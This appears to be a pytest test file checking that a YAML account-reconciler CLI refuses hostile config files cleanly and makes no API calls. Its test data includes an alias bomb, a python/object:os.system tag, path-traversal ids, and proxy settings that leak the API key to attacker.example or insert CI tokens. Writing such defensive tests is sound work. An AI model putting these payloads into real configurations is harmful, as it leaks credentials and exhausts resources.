"""Hostile input through the real commands: exit 1, one positioned line per problem, no traceback, no hang,
and never a request to the API (or to another route than the account's own).

The loader's own properties (random and mutated YAML) are in test_config.py; here every input goes through
`validate`, `plan` and `apply` as a user would run them. RECONCILER_SOAK=1 adds a 50 MB fleet.
"""

from __future__ import annotations

import os
import re
import sys
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.soak import SOAK, scale

POSITIONED = re.compile(r"^[^\s:][^:]*:\d+:\d+: \S", re.MULTILINE)
FIFTY_MB = 50 * 1024 * 1024

HEAD = "version: 1\naccounts:\n"
HOSTILE: dict[str, bytes] = {
    "random bytes": bytes(range(256)) * 64,
    "NUL bytes": b"version: 1\naccounts:\n  a\x00b: {country: US}\n",
    "UTF-16": "version: 1\naccounts: {}\n".encode("utf-16"),
    "deep nesting": b"version: 1\naccounts: " + b"[" * 5000 + b"]" * 5000 + b"\n",
    "deep mappings": b"version: 1\naccounts:\n" + b"".join(b"  " * i + b"k:\n" for i in range(1, 400)),
    "alias bomb": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
    + b"".join(
        b"%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n" % ((98 + i,) * 2 + (97 + i,) * 9) for i in range(9)
    ),
    "unknown alias": b"version: 1\naccounts: *nowhere\n",
    "unclosed quote": b'version: 1\naccounts:\n  a: {country: "US}\n',
    "tab indentation": b"version: 1\naccounts:\n\ta: {country: US}\n",
    "a list at the top": b"- version: 1\n",
    "a scalar at the top": b"just text\n",
    "two documents": b"version: 1\naccounts: {}\n---\nversion: 1\n",
    "python tag": b"version: 1\naccounts: !!python/object:os.system {}\n",
    "huge key": b"version: 1\naccounts:\n  " + b"k" * 300_000 + b": {country: US}\n",
    "50 MB list": b"version: 1\naccounts: {}\njunk: [" + b"1," * (FIFTY_MB // 2) + b"1]\n",
    "50 MB scalar": b"version: 1\naccounts: " + b"x" * FIFTY_MB + b"\n",
    "50 MB of comments": b"#"
    + b"c" * 99
    + b"\n" * 1
    + (b"#" + b"c" * 99 + b"\n") * (FIFTY_MB // 100)
    + b"version: 1\naccounts: 3\n",
    "id with a newline": b'version: 1\naccounts:\n  "a\\nb": {country: US}\n',
    "id too long": b"version: 1\naccounts:\n  " + b"a" * 257 + b": {country: US}\n",
    "id with a bidi override": 'version: 1\naccounts:\n  "acc\u202e1": {country: US}\n'.encode(),
    "id with a zero-width space": "version: 1\naccounts:\n  acc\u200b1: {country: US}\n".encode(),
    "id with a C1 control": b'version: 1\naccounts:\n  "acc\\x851": {country: US}\n',
    "id with a variation selector": (
        HEAD + '  acc_1: {country: US}\n  "acc_1\ufe0f": {country: US}\n'
    ).encode(),
    "id with a Hangul filler": (HEAD + '  acc_1: {country: US}\n  "acc_1\u115f": {country: US}\n').encode(),
    "id with a tag character": (HEAD + '  "acc_1\U000e0041": {country: US}\n').encode(),
    "id composed and decomposed": (HEAD + '  café: {country: US}\n  "cafe\u0301": {country: US}\n').encode(),
    "host from the API key": (
        HEAD + '  a: {proxy: {host: "${POSTPRESS_API_KEY}.attacker.example", port: 1}}\n'
    ).encode(),
    "password from the state URL": (
        HEAD + '  a: {proxy: {host: h, port: 1, password: "${RECONCILER_STATE}"}}\n'
    ).encode(),
    "username from the CI token": (
        HEAD + '  a: {proxy: {host: h, port: 1, username: "${GITHUB_TOKEN}"}}\n'
    ).encode(),
    "5,000-digit integer": b"version: 1\naccounts:\n  a: {proxy: {host: h, port: " + b"9" * 5000 + b"}}\n",
    "400-digit !!float": b"version: 1\naccounts:\n  a: {proxy: {host: h, port: !!float "
    + b"9" * 400
    + b"}}\n",
    "key with a newline and a tab": b'version: 1\naccounts:\n  a: {"x\\ny\\tz": 1, country: US}\n',
}


def assert_refused(result, name: str) -> None:
    assert result.code == 1, (name, result.code, result.err[-500:])
    assert "Traceback" not in result.out + result.err
    assert POSITIONED.search(result.err), (name, result.err[:500])
    assert max(len(line) for line in result.err.splitlines()) < 1000  # nothing echoed in bulk
    assert all(line.isprintable() for line in result.err.splitlines()), (name, result.err[:500])


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_file_is_refused_by_every_command(run, workdir, api, name) -> None:
    (workdir / "bad.yaml").write_bytes(HOSTILE[name])
    for command in (["validate"], ["plan"], ["apply", "--yes"]):
        assert_refused(run(*command, "bad.yaml"), name)
    assert api.stats.requests == 0


@settings(
    max_examples=scale(60, 2000), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.binary(max_size=400))
def test_random_bytes_after_a_valid_head(run, workdir, data: bytes) -> None:
    (workdir / "bad.yaml").write_bytes(b"version: 1\naccounts:\n  a: {country: US}\n" + data)
    result = run("plan", "bad.yaml")
    assert "Traceback" not in result.out + result.err
    assert result.code in (0, 1, 2)
    if result.code == 1:
        assert POSITIONED.search(result.err) or "no such file" in result.err, result.err


def test_a_directory_with_unreadable_entries(run, workdir, api) -> None:
    directory = workdir / "conf"
    directory.mkdir()
    (directory / "a.yaml").write_text("version: 1\naccounts:\n  a: {country: US}\n")
    os.mkfifo(directory / "b.yaml")  # would block a plain read for ever
    (directory / "c.yaml").symlink_to(workdir / "missing.yaml")
    (directory / "d.yml").mkdir()  # a directory with the suffix: not a config file, ignored
    for command in (["validate"], ["plan"], ["apply", "--yes"]):
        result = run(*command, "conf")
        assert result.code == 1 and "Traceback" not in result.err
        assert "conf/b.yaml:1:1: cannot read the file: not a regular file" in result.err
        assert "conf/c.yaml:1:1: cannot read the file: No such file or directory" in result.err
    assert api.stats.requests == 0


def test_a_file_without_read_permission() -> None:
    """chmod 000 blocks root only through its effective uid, so a forked child drops to `nobody` first."""
    scratch = Path(tempfile.mkdtemp(prefix="reconciler-perm-", dir="/tmp"))
    try:
        scratch.chmod(0o755)
        secret = scratch / "a.yaml"
        secret.write_text("version: 1\naccounts:\n  a: {country: US}\n")
        secret.chmod(0o000)
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: no pytest machinery from here on
            code = 70
            try:
                sys.stderr = os.fdopen(write_end, "w")  # pytest's capture objects stay behind
                sys.stdout = open(os.devnull, "w")  # noqa: SIM115
                if os.geteuid() == 0:
                    os.setegid(65534)
                    os.seteuid(65534)
                from reconciler.cli import main

                main(["validate", str(secret)])
                code = 0
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 1
            finally:
                sys.stderr.flush()
                os._exit(code)
        os.close(write_end)
        with os.fdopen(read_end, "rb") as stream:
            err = stream.read().decode()
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 1, err
        assert f"{secret}:1:1: cannot read the file: Permission denied" in err
        assert "Traceback" not in err
    finally:
        secret.chmod(0o600)
        for entry in scratch.iterdir():
            entry.unlink()
        scratch.rmdir()


UNUSUAL_IDS = [
    "acc/1",
    "acc?x=1",
    "acc#frag",
    "100%",
    "%2F",
    "..",
    ".",
    "a/../b",
    "ünïcødé",
    "账户",
    "emoji🙂",
    "a&b=c",
    "semi;colon",
    "back\\slash",
    "'quote\"",
    "+plus",
]


def test_ids_with_reserved_and_unicode_characters_reach_their_own_route(run, write, api) -> None:
    import json

    lines = ["version: 1", "accounts:"] + [
        f"  {json.dumps(i, ensure_ascii=False)}: {{country: US}}" for i in UNUSUAL_IDS
    ]
    write("a.yaml", "\n".join(lines) + "\n")
    result = run("apply", "a.yaml", "--yes")
    assert result.code == 0, result.out + result.err
    assert set(api.stats.patched) == set(UNUSUAL_IDS)  # each PATCH reached exactly its own account
    assert all(count == 1 for count in api.stats.patches.values())
    for entry in api.stats.log:  # one path segment each: nothing climbed, nothing became a query
        assert re.fullmatch(r"/api/v1/accounts/[^/?#]+", entry["path"]), entry["path"]
    assert run("plan", "a.yaml", "--detailed-exitcode").code == 0


@pytest.mark.skipif(not SOAK, reason="soak mode only (RECONCILER_SOAK=1): about a minute and 2 GB")
@pytest.mark.timeout(900)
def test_fifty_megabytes_of_accounts_with_an_error_at_the_end(run, workdir) -> None:
    lines = [f"  acc_{i:07d}: {{country: US}}\n" for i in range(FIFTY_MB // 28)]
    (workdir / "big.yaml").write_text("version: 1\naccounts:\n" + "".join(lines) + "  last: {country: 12}\n")
    result = run("validate", "big.yaml")
    assert result.code == 1
    assert f"big.yaml:{len(lines) + 3}:" in result.err and "Traceback" not in result.err
